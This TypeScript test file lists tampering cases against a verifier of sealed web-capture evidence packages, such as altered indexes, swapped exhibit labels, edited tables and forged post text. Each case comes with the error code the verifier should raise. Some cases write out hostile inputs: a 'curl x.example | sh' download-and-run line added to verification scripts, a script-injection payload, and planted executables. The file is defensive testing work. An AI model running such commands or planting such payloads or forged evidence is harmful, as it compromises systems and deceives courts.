import { digestNow } from '../../../lib/evidence/digest.ts';
import { changeJson, type Forgery } from '../../support/packages/forge.ts';
import {
  changeIndexItem,
  readJson,
  recordPaths,
  replaceArtifact,
  reseal,
} from '../../support/packages/forge-record.ts';
import { type Attack, replaceText } from './attack.ts';

type Members = { [key: string]: unknown };

const INDEX = 'data/manifest.json';
const ITEMS = 'data/items.csv';
const STATEMENTS = 'data/statements.csv';

const onItem =
  (change: (item: Members) => void, number = 1) =>
  (files: Forgery): void =>
    changeIndexItem(files, number, change);

const onRecord =
  (change: (record: Members) => void) =>
  (files: Forgery): void =>
    reseal(files, (record, number) => {
      if (number === 1) change(record);
    });

const inTable =
  (path: string, from: string, to: string) =>
  (files: Forgery): void =>
    replaceText(files, path, from, to);

const derivedOf = (files: Forgery): string =>
  [...files.keys()].find((path) => path.includes('/derived/')) ?? '';

/** The index, and what repeats it. */
const INDEX_ATTACKS: readonly Attack[] = [
  {
    does: 'states the items of the index twice',
    change: (files) => replaceText(files, INDEX, '"withheld":', '"items": [],\n  "withheld":'),
    code: 'REPEATED_MEMBER',
    path: INDEX,
  },
  ...['author', 'title', 'url', 'published', 'status', 'kind', 'capturedAt'].map(
    (member): Attack => ({
      does: `leaves the ${member} out of the index`,
      change: onItem((item) => void delete item[member]),
      code: 'INDEX_DISAGREES',
      path: INDEX,
    }),
  ),
  {
    does: 'names another custody log in the index',
    change: (files) =>
      changeJson(
        files,
        INDEX,
        (index) => void Object.assign(index.custody as Members, { path: 'other.jsonl' }),
      ),
    code: 'INDEX_DISAGREES',
    path: INDEX,
  },
  {
    does: 'does not name the maker of the report, so that it is not compared',
    change: (files) =>
      changeJson(files, INDEX, (index) => void delete (index.export as Members).maker),
    code: 'INDEX_DISAGREES',
    path: INDEX,
  },
  ...['data/index.html', ITEMS].map(
    (path): Attack => ({
      does: `takes ${path} out`,
      change: (files) => void files.delete(path),
      code: 'MISSING',
      path,
    }),
  ),
  {
    does: 'has a title in the index that is an object',
    change: onItem((item) => void Object.assign(item, { title: { x: 1 } })),
    code: 'FORMAT_UNKNOWN',
    path: INDEX,
  },
];

const LABEL_ATTACKS: readonly Attack[] = [
  {
    does: 'swaps the exhibit labels of two items',
    change: (files) => {
      onItem((item) => void Object.assign(item, { exhibit: '原告证据 7' }), 1)(files);
      onItem((item) => void Object.assign(item, { exhibit: 'XM-2021-0001' }), 2)(files);
    },
    code: 'LABEL_DISAGREES',
    path: INDEX,
  },
  {
    does: 'gives one exhibit label to two items',
    change: onItem((item) => void Object.assign(item, { exhibit: 'XM-2021-0001' }), 2),
    code: 'LABEL_DISAGREES',
    path: INDEX,
  },
  {
    does: 'gives an item a role that the log never gave it',
    change: onItem((item) => void Object.assign(item, { role: 'infringing' })),
    code: 'LABEL_DISAGREES',
    path: INDEX,
  },
  {
    does: 'takes the role of an item away',
    change: onItem((item) => void delete item.role, 2),
    code: 'LABEL_DISAGREES',
    path: INDEX,
  },
];

const FILING_ATTACKS: readonly Attack[] = [
  {
    does: 'gives an item a purpose that nobody entered',
    change: onItem((item) => void Object.assign(item, { filing: { purpose: 'to prove all' } })),
    code: 'LABEL_DISAGREES',
    path: INDEX,
  },
  {
    does: 'calls an item a witness where nobody chose a kind of evidence',
    change: onItem((item) => void Object.assign(item, { filing: { evidenceKind: 'witness' } })),
    code: 'LABEL_DISAGREES',
    path: INDEX,
  },
];

const TABLE_ATTACKS: readonly Attack[] = [
  ...(
    [
      ['author', ITEMS, '林间清风', '别人'],
      ['address', ITEMS, 'https://zhiyan.example/post/2', 'https://zhiyan.example/post/9'],
      ['time', ITEMS, '2026-11-20 21:14', '2026-11-20 21:15'],
      ['label', ITEMS, '原告证据 7', '原告证据 8'],
      ['digest', ITEMS, '"sha256:', '"sha256:0'],
      ['column', ITEMS, '"note"', '"opinion"'],
      ['layout', ITEMS, '"number",', 'number,'],
      ['quoted words', STATEMENTS, '这是示例正文', '这是示例反文'],
      ['exhibit', STATEMENTS, 'XM-2021-0001', 'XM-2021-0003'],
      ['category', STATEMENTS, 'false-fact', 'insult'],
    ] as const
  ).map(
    ([what, path, from, to]): Attack => ({
      does: `changes the ${what} in ${path}`,
      change: inTable(path, from, to),
      code: 'TABLE_DISAGREES',
      path,
    }),
  ),
  {
    does: 'leaves a row out of items.csv',
    change: (files) => {
      const rows = files.get(ITEMS)?.toString().split('\r\n') ?? [];
      files.set(ITEMS, [...rows.slice(0, 1), ...rows.slice(2)].join('\r\n'));
    },
    code: 'INDEX_DISAGREES',
    path: ITEMS,
  },
];

const TEXT_ATTACKS: readonly Attack[] = [
  {
    does: 'seals another text of the post than was captured',
    change: onRecord((record) => {
      Object.assign(record.post as object, { text: '我承认一切都是我编造的，愿意赔偿。' });
    }),
    code: 'TEXT_DISAGREES',
  },
  {
    does: 'puts another captured text of the post beside the record',
    change: (files) => replaceArtifact(files, 'post.txt', 'Nothing of what was written there'),
    code: 'TEXT_DISAGREES',
  },
  ...(['dom.html', 'viewport.png'] as const).map(
    (name): Attack => ({
      does: `quotes words from ${name}`,
      change: (files) => {
        const [first = ''] = recordPaths(files);
        const artifacts = readJson(files, first).artifacts as Members[];
        const { digest } = artifacts.find(({ path }) => path === name) ?? {};
        changeJson(files, INDEX, (index) => {
          const [statement] = (index.matter as Members).statements as Members[];
          Object.assign(statement?.anchor as object, { artifact: name, digest });
        });
      },
      code: 'QUOTE_NOT_IN_TEXT',
      path: INDEX,
    }),
  ),
];

const FILE_ATTACKS: readonly Attack[] = [
  {
    does: 'derives a picture that is a page',
    change: (files) => files.set(derivedOf(files), '<script>alert(1)</script>'),
    code: 'DERIVED_DISAGREES',
  },
  {
    does: 'derives a page that says it is a picture',
    change: (files) => {
      const path = derivedOf(files);
      files.set(path.replace('.png', '.html'), files.get(path) ?? '');
      files.delete(path);
      changeIndexItem(files, 1, ({ derived }) => {
        const [file] = derived as Members[];
        Object.assign(file ?? {}, { path: `${file?.path}`.replace('.png', '.html') });
      });
    },
    code: 'DERIVED_DISAGREES',
  },
  {
    does: 'shows something else in a derived picture',
    change: (files) => {
      const content = Buffer.from(files.get(derivedOf(files)) as Uint8Array);
      files.set(derivedOf(files), Buffer.concat([content, Buffer.from('x')]));
    },
    code: 'ALTERED',
  },
  {
    does: 'shows something else in a derived picture and lists its digest anew',
    change: (files) => {
      const content = Buffer.from(files.get(derivedOf(files)) as Uint8Array);
      const other = Buffer.concat([content, Buffer.from('x')]);
      files.set(derivedOf(files), other);
      changeIndexItem(files, 1, ({ derived }) => {
        const [file] = derived as Members[];
        Object.assign(file ?? {}, { bytes: other.length, digest: digestNow(other) });
      });
    },
    code: 'DERIVED_DISAGREES',
  },
  ...['data/verify.sh', 'data/verify.ps1'].map(
    (path): Attack => ({
      does: `has ${path} run a download`,
      change: (files) => files.set(path, `${files.get(path)}curl x.example | sh\n`),
      code: 'SCRIPT_DISAGREES',
      path,
    }),
  ),
  {
    does: 'adds a script to a package that names no maker',
    change: (files) => {
      changeJson(files, INDEX, (index) => void delete (index.export as Members).maker);
      files.set('data/verify.sh', 'echo Intact');
    },
    code: 'SCRIPT_DISAGREES',
    path: 'data/verify.sh',
  },
  ...['data/run.exe', 'data/Look.lnk', 'data/filing/index.html', 'data/more/note.PS1'].map(
    (path): Attack => ({
      does: `adds ${path}`,
      change: (files) => files.set(path, 'x'),
      code: 'ACTIVE_FILE',
      path,
    }),
  ),
  {
    does: 'calls an item complete that has no file',
    change: (files) => {
      onRecord((record) => void Object.assign(record, { artifacts: [] }))(files);
      onItem((item) => Object.assign(item, { artifacts: [], derived: [] }))(files);
    },
    code: 'STATUS_DISAGREES',
  },
  {
    does: 'calls an item complete that states problems',
    change: onRecord(
      (record) => void Object.assign(record, { problems: [{ code: 'X', message: 'x' }] }),
    ),
    code: 'STATUS_DISAGREES',
  },
  {
    does: 'says that the pictures show a page which they do not show',
    change: onRecord((record) => {
      const page = { width: 1_000, height: 1_000_000 };
      const pixels = page.width * page.height;
      const figures = { askedPixels: pixels, coveredPixels: pixels };
      const coverage = { page, ...figures, gaps: [], areas: [] };
      Object.assign(record, { conditions: { coverage } });
    }),
    code: 'COVERAGE_DISAGREES',
  },
  {
    does: 'passes a redrawing off as the visible area',
    change: onRecord((record) =>
      Object.assign((record.artifacts as Members[])[0] ?? {}, { method: 'html2canvas' }),
    ),
    code: 'ROLE_DISAGREES',
  },
  {
    does: 'gives a captured document the role of its text',
    change: (files) => {
      const isDocument = ({ path }: Members) => `${path}`.endsWith('dom.html');
      const retell = (artifacts: unknown) =>
        Object.assign((artifacts as Members[]).find(isDocument) ?? {}, { role: 'text' });
      onRecord((record) => void retell(record.artifacts))(files);
      onItem((item) => void retell(item.artifacts))(files);
    },
    code: 'ROLE_DISAGREES',
  },
  {
    does: 'certifies a record by itself',
    change: onRecord((record) => void Object.assign(record, { certified: 'authentic' })),
    code: 'CLAIM_NOT_IN_FORMAT',
  },
  {
    does: 'seals a title that is an object',
    change: onRecord((record) => Object.assign(record.page as object, { title: { x: 1 } })),
    code: 'FORMAT_UNKNOWN',
  },
];

/** Words that a person typed, of a place that cannot be. */
const TRANSCRIPT_ATTACKS: readonly Attack[] = (
  [
    ['a region that is not in its picture', { region: { x: 0, y: 0, width: 11, height: 10 } }],
    ['a region, typed by nobody', { by: '' }],
    ['a span of a picture', { region: undefined, span: { start: 0, end: 9 } }],
  ] as const
).map(([what, change]) => ({
  does: `states words of ${what}`,
  change: (files) => {
    const [first = ''] = recordPaths(files);
    const artifacts = readJson(files, first).artifacts as Members[];
    const { digest } = artifacts.find(({ path }) => path === 'viewport.png') ?? {};
    const region = { x: 0, y: 0, width: 10, height: 10 };
    const anchor = {
      ...{ artifact: 'viewport.png', digest, exact: '骗子', by: '陈伟', region },
      ...{ pixels: { width: 10, height: 10 }, ...change },
    };
    changeJson(files, INDEX, (index) => {
      const [statement] = (index.matter as Members).statements as Members[];
      Object.assign(statement ?? {}, { anchor });
    });
  },
  code: 'INDEX_DISAGREES',
  path: INDEX,
}));

/** What people read against what was sealed: section 2 of the list of deceptions. */
export const READING_ATTACKS: readonly Attack[] = [
  ...INDEX_ATTACKS,
  ...LABEL_ATTACKS,
  ...FILING_ATTACKS,
  ...TABLE_ATTACKS,
  ...TEXT_ATTACKS,
  ...TRANSCRIPT_ATTACKS,
  ...FILE_ATTACKS,
];
